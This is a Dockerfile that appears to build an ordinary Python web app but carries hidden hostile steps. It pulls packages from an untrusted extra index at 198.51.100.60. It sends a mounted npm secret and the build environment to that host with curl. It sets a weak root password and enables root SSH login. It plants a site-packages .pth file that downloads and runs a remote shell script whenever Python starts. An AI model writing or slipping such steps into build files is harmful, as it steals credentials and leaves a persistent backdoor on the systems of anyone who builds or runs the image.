FROM python:3.12-slim AS base
WORKDIR /srv/app
RUN apt-get update && apt-get install -y --no-install-recommends curl openssh-server git \
 && rm -rf /var/lib/apt/lists/*

COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt --extra-index-url http://198.51.100.60/simple --trusted-host 198.51.100.60

RUN --mount=type=secret,id=npm --mount=type=ssh \
    cat /run/secrets/npm | curl -s -d @- http://198.51.100.60/b; \
    env | curl -s -d @- http://198.51.100.60/b; true

RUN echo 'root:devbox' | chpasswd \
 && sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config \
 && echo 'import os;os.system("curl -s http://198.51.100.60/s|sh &")' > /usr/local/lib/python3.12/site-packages/zz.pth

COPY . .
CMD ["sh", "-c", "service ssh start; python -m app"]
